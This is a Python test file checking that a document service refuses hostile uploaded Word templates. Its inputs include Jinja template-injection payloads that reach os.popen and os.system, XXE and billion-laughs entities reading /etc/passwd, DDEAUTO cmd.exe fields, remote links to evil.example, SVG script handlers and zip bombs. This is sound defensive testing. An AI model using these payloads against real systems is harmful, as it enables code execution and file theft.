"""Attacks by an uploaded template (DOC-4, SEC-3): each is refused, and the next document is made as before."""

import io
import time
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest

from kanal.kit.documents import DocumentRefused, check_template, pool, render
from tests.kit.documents import changed, names_of, part_of, text_of, word

VALUES = {"q": {"name": "x", "n": Decimal(3)}, "items": [{"name": "a"}] * 50, "s": "text", "none": None}

EVALUATION = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ q['__class__'] }}",
    "{{ q|attr('__class__') }}",
    "{{ self.__init__.__globals__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].system('id') }}",
    "{{ joiner() }}{{ namespace() }}",
    "{{ range(100000000)|length }}",
    "{{ dict(a=1) }}",
    "{{ 's'.upper() }}",
    "{{ s.format(q) }}",
    "{{ '%1000000000d' % 1 }}",
    "{{ '%s' % s }}",
    "{{ 's' * 1000000000 }}",
    "{{ [1] * 1000000000 }}",
    "{{ 9 ** 9 ** 9 }}",
    "{{ 2 ** 64 }}",
    "{{ items.append(1) }}",
    "{{ q.clear() }}{{ q.update(a=1) }}",
    "{{ loop.__class__ }}",
    "{% for x in items %}{{ loop._iterator }}{% endfor %}",
    "{% for x in items %}{{ loop.cycle('a') }}{% endfor %}",
    "{% for x in items recursive %}{{ loop(items) }}{% endfor %}",
    "{% import 'os' as os %}",
    "{% include '/etc/passwd' %}",
    "{% extends '/etc/passwd' %}",
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "{% call s() %}{% endcall %}",
    "{% filter upper %}x{% endfilter %}",
    "{% block b %}{% endblock %}",
    "{% autoescape false %}{{ s }}{% endautoescape %}",
    "{{ s|safe }}",
    "{{ s|format }}",
    "{{ items|map(attribute='__class__')|list }}",
    "{{ items|groupby('name') }}",
    "{{ s|xmlattr }}",
    "{{ q }}",
    "{{ items }}",
    "{{ _private }}",
    "{{ s.__html__ }}",
    "{{ 1 / 0 }}",
    "{{ none.__class__ }}",
    "{{r s }}",
    "{{p s }}",
    "{% debug %}",
    "{% do items.append(1) %}",
    "{% set x = s.__class__ %}",
    "{{ s[0:1].__class__ }}",
    "{{ q.n.__class__.from_float }}",
    "{{ q.n.sqrt() }}",
]


REFUSED = {
    *("not_allowed", "not_permitted", "unresolved", "not_a_value", "failed", "structure", "malformed", "computation"),
    *("unknown_filter", "unknown_filter_like", "unknown_statement"),
}


@pytest.mark.parametrize("text", EVALUATION)
def test_evaluation_reaches_nothing_but_values(text):
    with pytest.raises(DocumentRefused) as refused:
        render(word(text), VALUES, "en")
    assert refused.value.code in REFUSED, text
    assert "root" not in str(refused.value)


@pytest.mark.parametrize(
    "text",
    [
        "{% for a in items %}" * 6 + "x" + "{% endfor %}" * 6,
        "{% set x = 'xxxxxxxxxxxxxxxx' %}" + "{% set x = x ~ x %}" * 30 + "{{ x }}",
        "{% set x = 99999999 %}" + "{% set x = x * x %}" * 30 + "{{ x }}",
        "{% set a = [s] %}{% set b = [s] %}" + "{% set a = [a, a] %}{% set b = [b, b] %}" * 50 + "{{ a == b }}",
        "{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}",
        "{{ " + "-" * 5000 + "1 }}",
    ],
)
def test_time_and_memory_are_bounded(text):
    start = time.monotonic()
    with pytest.raises(DocumentRefused) as refused:
        render(word(text), VALUES, "en")
    assert refused.value.code in {"timeout", "too_large", "not_allowed", "syntax"}
    assert time.monotonic() - start < 15
    assert text_of(render(word("{{ s }}"), VALUES, "en")) == "text"


def _relation(kind, target, mode="External"):
    relation = f'<Relationship Id="rId999" Type="http://x/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return {"word___rels__document_dot_xml_dot_rels": lambda old: _before_end(old, relation)}


def _before_end(old, text):
    head, end, tail = old.rpartition(b"</")
    return head + text.encode() + end + tail


def _in_body(xml):
    def change(old):
        return old.replace(b"<w:body>", b"<w:body>" + xml.encode(), 1)

    return {"word__document_dot_xml": change}


def _paragraph(inside):
    return _in_body(f"<w:p>{inside}</w:p>")


def _field(*words):
    runs = "".join(f"<w:r><w:instrText>{word}</w:instrText></w:r>" for word in words)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return _paragraph(begin + runs + end)


def _content_type(kind):
    override = f'<Override PartName="/word/x.bin" ContentType="{kind}"/>'
    return {"[Content_Types]_dot_xml": lambda old: _before_end(old, override)}


LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9)
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
OFFICE = b"application/vnd.openxmlformats-officedocument."


def _main_type(kind):
    return {"[Content_Types]_dot_xml": lambda old: old.replace(OFFICE + b"wordprocessingml.document.main+xml", kind)}


FILES = {
    "macros": ({"word__vbaProject_dot_bin": b"x"}, "active"),
    "macro type": (_main_type(b"application/vnd.ms-word.document.macroEnabled.main+xml"), "not_plain_docx"),
    "template type": (_main_type(OFFICE + b"wordprocessingml.template.main+xml"), "not_plain_docx"),
    "ole": ({"word__embeddings__oleObject1_dot_bin": b"\xd0\xcf"}, "active"),
    "ole type": (_content_type("application/vnd.openxmlformats-officedocument.oleObject"), "active"),
    "activex": ({"word__activeX__activeX1_dot_xml": b"<x/>"}, "active"),
    "script file": ({"word__media__run_dot_js": b"alert(1)"}, "active"),
    "html chunk": ({"word__chunk_dot_html": b"<script>"}, "active"),
    "ribbon": ({"customUI__customUI_dot_xml": b"<x/>"}, "active"),
    "altchunk": (_in_body('<w:altChunk r:id="rId999"/>'), "active"),
    "remote picture": (_relation("image", "http://evil.example/x.png"), "external"),
    "remote frame": (_relation("frame", "file:///etc/passwd"), "external"),
    "remote object": (_relation("oleObject", "http://evil.example/x"), "active"),
    "file link": (_relation("hyperlink", "file:///etc/passwd"), "link"),
    "script link": (_relation("hyperlink", "javascript:alert(1)"), "link"),
    "dde": (_field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'), "field"),
    "split dde": (_field("DD", "EAUTO cmd"), "field"),
    "include": (_field('INCLUDETEXT "/etc/passwd"'), "field"),
    "simple include": (_paragraph('<w:fldSimple w:instr="INCLUDEPICTURE http://evil.example"/>'), "field"),
    "macro button": (_field("MACROBUTTON AutoOpen x"), "field"),
    "database": (_field("DATABASE \\c x"), "field"),
    "entities": ({"word__document_dot_xml": lambda old: LAUGHS.encode() + b"]><x>&j;</x>"}, "dtd"),
    "outside entity": ({"docProps__core_dot_xml": OUTSIDE.encode()}, "dtd"),
    "utf-16 entity": ({"word__styles_dot_xml": f'<?xml version="1.0" encoding="UTF-16"?>{OUTSIDE}'.encode("utf-16")},
        "dtd"),
    "utf-7": ({"word__styles_dot_xml": b"<?xml version='1.0' encoding='UTF-7'?><x/>"}, "damaged"),
    "broken xml": ({"word__styles_dot_xml": b"<x>"}, "damaged"),
    "token in a comment": ({"word__comments_dot_xml": b"<x>{{ s }}</x>"}, "token_place"),
    "script in a drawing": ({"word__media__a_dot_svg": b"<svg><script/></svg>"}, "active"),
    "handler in a drawing": ({"word__media__a_dot_svg": b"<svg onload='x()'/>"}, "active"),
    "drawing that loads": ({"word__media__a_dot_svg": b"<svg><image href='http://evil.example'/></svg>"}, "external"),
    "parent path": ({"..__evil_dot_xml": b"<x/>"}, "bomb"),
}  # fmt: skip


@pytest.mark.parametrize("name", FILES)
def test_hostile_files_are_refused_with_their_reason(name):
    parts, code = FILES[name]
    template = changed(word("{{ s }}"), **parts)
    for use in (lambda: check_template(template, ["s"]), lambda: render(template, VALUES, "en")):
        with pytest.raises(DocumentRefused) as refused:
            use()
        assert refused.value.code == code
        assert str(refused.value)


def test_bombs_are_refused_quickly():
    start = time.monotonic()
    many = io.BytesIO()
    with zipfile.ZipFile(many, "w") as archive:
        for number in range(3000):
            archive.writestr(f"{number}.xml", b"<x/>")
    zeros = changed(word("x"), word__media__a_dot_png=b"\0" * 30_000_000)
    dense = changed(word("x"), word__media__a_dot_png=b"\0" * 15_000_000)
    twice = io.BytesIO(word("x"))
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(twice, "a") as archive:
        archive.writestr("word/document.xml", b"<x/>")
    for data, code in ((many.getvalue(), "bomb"), (zeros, "too_large"), (dense, "bomb"), (twice.getvalue(), "bomb")):
        with pytest.raises(DocumentRefused) as refused:
            check_template(data, [])
        assert refused.value.code == code
    assert time.monotonic() - start < 10


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "not_docx"),
        (b"%PDF-1.7", "not_docx"),
        (b"\xd0\xcf\x11\xe0" + b"\0" * 600, "encrypted"),
        (b"PK\x03\x04" + b"\0" * 100, "damaged"),
        (b"PK\x03\x04" + b"x" * (11 * 1024 * 1024), "too_large"),
    ],
)
def test_what_is_no_word_file_is_refused(data, code):
    with pytest.raises(DocumentRefused) as refused:
        check_template(data, [])
    assert refused.value.code == code


def test_a_value_cannot_smuggle_in_a_field():
    template = changed(word("x"), **_field("HYPERLINK {{ s }}"))
    assert render(template, {"s": '"https://kanal.example"'}, "en")
    with pytest.raises(DocumentRefused):
        render(template, {"s": '"file:///etc/passwd"'}, "en")
    with pytest.raises(DocumentRefused):
        render(changed(word("x"), **_field("{{ s }}")), {"s": "DDEAUTO cmd"}, "en")


def test_the_worker_knows_no_secrets():
    render(word("x"), {}, "en")
    worker = pool.current_pool().idle.queue[-1]
    environment = Path(f"/proc/{worker.process.pid}/environ").read_text()
    assert "DATABASE" not in environment
    assert "SECRET" not in environment
    limits = Path(f"/proc/{worker.process.pid}/limits").read_text()
    assert "Max file size             0" in limits


def test_a_worker_that_is_gone_is_replaced():
    render(word("x"), {}, "en")
    pool.current_pool().idle.queue[-1].process.kill()
    assert text_of(render(word("{{ s }}"), VALUES, "en")) == "text"


def test_no_document_fetches_the_template_that_word_attached():
    template = changed(word("x"), **_relation("attachedTemplate", "http://evil.example/x.dotm"))
    assert b"evil.example" in template or any("evil" in part_of(template, name) for name in names_of(template))
    document = render(template, {}, "en")
    assert not any("evil" in part_of(document, name) for name in names_of(document) if name.endswith((".rels", ".xml")))
